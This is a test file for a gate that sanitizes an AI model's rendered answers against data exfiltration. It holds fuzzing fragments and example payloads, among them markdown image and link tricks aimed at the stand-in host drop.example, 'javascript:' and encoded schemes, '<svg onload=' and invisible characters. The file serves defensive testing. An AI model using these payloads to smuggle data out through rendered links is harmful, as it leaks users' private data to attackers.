"""What is left of an answer, judged by a renderer that the gate knows nothing of."""

import itertools
import re

import markdown
import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st

from examples.security_threats import corpus, gate, output
from examples.security_threats.corpus import POLICY, USER

FETCHED = "https://news.example/today"
LOADS = {
    "href",
    "src",
    "srcset",
    "data",
    "action",
    "formaction",
    "poster",
    "background",
    "xlink:href",
    "style",
}


def run_of(says="Summarize", *, private=True, fetched=()):
    run = gate.start("run-1", USER, says)
    return gate.Run(
        run.run_id, run.recipients, run.urls, fetched=frozenset(fetched), private=private, untrusted=private
    )


def targets(text):
    """Every address that a browser could load or follow from the rendered text."""
    soup = BeautifulSoup(
        markdown.markdown(
            text, extensions=["tables", "fenced_code", "footnotes", "abbr", "def_list", "nl2br"]
        ),
        "html.parser",
    )
    return {
        f"{tag.name} {tag[attribute]}"
        for tag in soup.find_all(True)
        for attribute in tag.attrs
        if attribute.lower() in LOADS or attribute.lower().startswith("on")
    } | {f"tag {tag.name}" for tag in soup.find_all(["script", "style", "iframe", "svg", "form", "object"])}


def left(answer, run=None):
    return targets(output.shown(POLICY, run or run_of(), answer).text)


ATTACKS = [case for name in ("attacks", "attacks_held_out") for case in corpus.load(name) if case.answer]


@pytest.mark.parametrize("case", [case for case in ATTACKS if not case.miss], ids=lambda case: case.id)
def test_no_attack_of_the_corpus_leaves_a_live_target(case):
    shown = output.shown(POLICY, corpus.prepared(case), case.answer)
    assert not {target for target in targets(shown.text) if case.hidden and case.hidden in target}
    assert shown.removed


def test_the_attacks_would_work_without_the_gate():
    """Else the test above could not fail."""
    live = [
        case.id for case in ATTACKS if case.hidden and any(case.hidden in t for t in targets(case.answer))
    ]
    assert len(live) >= 10


FRAGMENTS = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            "`",
            "\\",
            "\n",
            "\n\n",
            " ",
            "    ",
            ":",
            "&",
            '"',
            "'",
            "*",
            "|",
            "#",
        ),
        *(
            "![x]",
            "[x]",
            "[1]",
            "[1]: ",
            "](",
            "\n[1]: ",
            "> [1]: ",
            "- [1]: ",
            "[^1]: ",
            "*[x]: ",
            "{",
            "}",
            "~~~\n",
        ),
        *(
            "https://drop.example/4711",
            "//drop.example/4711",
            "&#47;&#47;drop.example",
            "https:\\/\\/drop.example",
        ),
        *(
            "https://drop.example@news.example/today",
            "javascript:drop.example",
            "&#106;avascript:drop.example",
        ),
        *(
            "<img src=",
            "<a href=",
            "<https://drop.example>",
            "</a>",
            "<svg onload=",
            "<!--",
            "-->",
            "<?x",
            "<IMG\nSRC=",
        ),
        *(
            "\x00",
            "0",
            "1",
            "\x000\x00",
            "\u200b",
            "\u200d\u200d",
            "\U000e0041",
            "\r",
            "\x0c",
            "```\n",
            "\t",
            "a",
        ),
        *(FETCHED, f"[x]({FETCHED})", f"![x]({FETCHED})", "[x](https://drop.example/4711)", '"drop.example"'),
        *(
            '{: href="https://drop.example" }',
            "www.drop.example",
            "mailto:x@drop.example",
            "<x@drop.example>",
        ),
    ]
)


@settings(max_examples=500)
@given(st.lists(FRAGMENTS, max_size=14).map("".join))
@example("[a\\]: //drop.example/4711\n\n[a\\]")
@example("[a\nb]: //drop.example/4711\n\n[a\nb]")
@example(f"[[x]({FETCHED})](https://drop.example/4711)")
@example(f'[x]({FETCHED}){{: href="&#47;&#47;drop.example"}}')
@example("<[mailto:x@drop.example>")
@example("<[\nx@drop.example>")
@example(f"[<img src=&#47;&#47;drop.example>]({FETCHED})")
@example('<IMG SRC="&#47;&#47;drop.example">')
@example("<1\u00a0x@drop.example>")
def test_only_authorized_targets_survive_whatever_the_model_writes(answer):
    text = output.shown(POLICY, run_of(fetched={FETCHED}), answer).text
    assert targets(text) <= {f"a {FETCHED}"}
    assert "![" not in text  # of images, the policy's alone may be shown


def streamed(answer, cuts, run):
    stream = output.Stream(POLICY, run)
    edges = sorted({0, len(answer), *(cut for cut in cuts if cut < len(answer))})
    parts = [stream.feed(answer[a:b]) for a, b in itertools.pairwise(edges)]
    return "".join([*parts, stream.close()]), stream.removed


@settings(max_examples=300)
@given(st.lists(FRAGMENTS, max_size=12).map("".join), st.lists(st.integers(1, 80), max_size=8))
@example("<[\nx@drop.example>", [])
@example("[a\nb]: //drop.example/4711\n\n[a\nb]", [3, 6])
@example("<[\na\nx@drop.example>", [5])
@example("<1\u00a0x@drop.example>", [3])
@example(f"!\x1f[x]({FETCHED})", [2])
def test_a_stream_shows_no_more_than_the_whole_answer_would(answer, cuts):
    run = run_of(fetched={FETCHED})
    assert targets(streamed(answer, cuts, run)[0]) <= {f"a {FETCHED}"}


@given(st.sets(st.integers(1, 120), max_size=40))
def test_a_stream_keeps_what_is_authorized_and_breaks_what_is_not_wherever_it_is_cut(cuts):
    answer = f"Two things, see [the post]({FETCHED}) and [more](https://drop.example/4711).\nhttps://drop.example/1 ends."
    assert streamed(answer, cuts, run_of(fetched={FETCHED})) == (
        output.shown(POLICY, run_of(fetched={FETCHED}), answer).text,
        ("https://drop.example/4711", "https://drop.example/1"),
    )


def test_a_stream_lets_words_go_at_once_and_holds_what_may_become_a_link():
    stream = output.Stream(POLICY, run_of())
    assert stream.feed("Three mails: ") == "Three mails: "
    assert stream.feed("one htt") == "one "
    assert stream.feed("ps://drop.example/47") == ""
    assert stream.feed("11 two ![") == "https:[//]drop.example/4711 two "
    assert stream.feed("x](https://drop.example/1) three ") == ""
    assert stream.feed("\nfour") == "[x] (https:[//]drop.example/1) three \n"
    assert stream.feed(" five") == "four "
    assert stream.close() == "five"


@pytest.mark.parametrize("unseen", [*"\x0b\x0c\r\x1c\x1f\x85\u200b"])
def test_no_address_comes_together_where_a_character_was_taken_out(unseen):
    stream = output.Stream(POLICY, run_of())
    parts = [stream.feed(f"see https:{unseen}"), stream.feed("//drop.example/4711 now"), stream.close()]
    assert "".join(parts) == "see https:[//]drop.example/4711 now"


@given(st.text(max_size=200))
def test_an_answer_that_was_shown_is_shown_again_unchanged(answer):
    once = output.shown(POLICY, run_of(), answer).text
    again = output.shown(POLICY, run_of(), once)
    assert targets(again.text) == targets(once)


def test_links_are_kept_when_authorized():
    run = run_of("See https://shop.example/a", fetched={FETCHED})
    answer = (
        f"[one]({FETCHED}) [two](https://shop.example/a) [three](https://wiki.northwind.example/plan) "
        "![four](https://static.northwind.example/img/logo.png) https://shop.example/a."
    )
    assert output.shown(POLICY, run, answer) == output.Shown(answer, ())


def test_a_link_whose_label_names_another_address_is_broken():
    """A client may make a link of the label too, and the user believes what it says."""
    run = run_of(fetched={FETCHED})
    for label in ("https://drop.example/4711", "see www.drop.example"):
        shown = output.shown(POLICY, run, f"[{label}]({FETCHED})")
        assert targets(shown.text) == set()
        assert label not in shown.text
        assert shown.removed
    for decoded in ("https:\\/\\/drop.example", "https:&#47;&#47;drop.example"):
        assert left(f"[{decoded}]({FETCHED})", run) == set()


def test_a_link_that_is_kept_gets_no_attributes():
    """Some renderers take them from braces right behind a link, another address among them."""
    answer = f'[x]({FETCHED}){{: href="//drop.example/4711" }}'
    text = output.shown(POLICY, run_of(fetched={FETCHED}), answer).text

    def addresses(text):
        html = markdown.markdown(text, extensions=["attr_list"])
        return [link["href"] for link in BeautifulSoup(html, "html.parser").find_all("a")]

    assert addresses(answer) == ["//drop.example/4711"]
    assert addresses(text) == [FETCHED]


def test_an_address_that_a_renderer_would_decode_to_another_is_broken():
    shown = output.shown(POLICY, run_of(), "[x](https://wiki.northwind.example/a/&#46;&#46;/b)")
    assert targets(shown.text) == set()
    assert shown.removed == ("https://wiki.northwind.example/a/&#46;&#46;/b",)


@pytest.mark.parametrize("mark", [*".,;:!?*_", "**", "?!"])
def test_punctuation_behind_an_address_is_not_part_of_it(mark):
    answer = f"https://shop.example/a{mark}"
    assert output.shown(POLICY, run_of("See https://shop.example/a"), answer) == output.Shown(answer, ())


@pytest.mark.parametrize("more", ["(4711)", "'4711", "_(4711)", '"4711', "`4711"])
def test_an_address_is_all_that_a_client_may_take_for_it(more):
    shown = output.shown(POLICY, run_of(fetched={FETCHED}), f"See {FETCHED}{more} for it")
    assert FETCHED not in shown.text
    assert shown.removed == (FETCHED,)


@pytest.mark.parametrize("around", ["({})", "**{}**", '"{}",', "'{}'", "`{}`.", "<{}", "{}<br>"])
def test_what_stands_around_an_address_is_not_part_of_it(around):
    assert FETCHED in output.shown(POLICY, run_of(fetched={FETCHED}), around.format(FETCHED)).text


def test_without_private_data_links_are_free_and_images_are_not():
    run = run_of(private=False)
    assert left("[x](https://any.example/a) ![y](https://any.example/b)", run) == {"a https://any.example/a"}
    for hidden in ("https://any.example/<img/src=/b>", "https://any.example/?)![y](https://any.example/b"):
        assert not {target for target in left(f"[x]({hidden})", run) if target.startswith("img")}


def test_an_image_is_shown_from_the_policys_hosts_for_images_alone():
    assert left("![x](https://wiki.northwind.example/plan.png)") == set()


def test_unseen_characters_go_and_those_of_scripts_stay():
    shown = output.shown(
        POLICY, run_of(), "a\U000e0041\u200b\u202eb \u0645\u06cc\u200c\u062e \u200d\u200dc\x1b[31m ❤\ufe0f"
    )
    assert shown.text == "ab \u0645\u06cc\u200c\u062e c[31m ❤\ufe0f"
    assert shown.removed == ("unseen characters",)


@pytest.mark.parametrize(
    "unseen",
    [
        *"\u00ad\u200b\u2060\u2064\u202a\u202e\u2066\u2069\ufe00\ufe0e\ufeff\U000e0000\U000e0fff",
        *"\x00\x08\x0b\r\x1f\x7f\x9f",
        *("\u200c\u200c", "\u200d\u200d", "\ufe0f\ufe0f", "\u200c\u200d"),
    ],
    ids=ascii,
)
def test_every_unseen_character_goes(unseen):
    assert output.shown(POLICY, run_of(), f"a{unseen}b") == output.Shown("ab", ("unseen characters",))


@pytest.mark.parametrize("tag", ["<b>", "<B>", "</b>", "<!-- x -->", "<?x?>"])
def test_a_tag_of_any_sort_is_shown_as_text(tag):
    shown = output.shown(POLICY, run_of(), f"a {tag}")
    assert "&lt;" in markdown.markdown(shown.text)
    assert shown.removed == ("a tag",)


def test_a_definition_whose_label_began_on_a_line_before_is_broken():
    assert "]:" not in output.shown(POLICY, run_of(), "[a\nb]: //drop.example/4711\n\n[a\nb]").text


def test_an_address_of_any_scheme_is_broken():
    assert output.shown(POLICY, run_of(), "ftp://drop.example/4711").text == "ftp:[//]drop.example/4711"


def test_the_removed_targets_are_reported_for_the_audit():
    shown = output.shown(POLICY, run_of(), "[a](https://drop.example/1) and https://drop.example/2.")
    assert shown.removed == ("https://drop.example/1", "https://drop.example/2")
    assert not re.search(r"https://", shown.text.replace("[//]", ""))
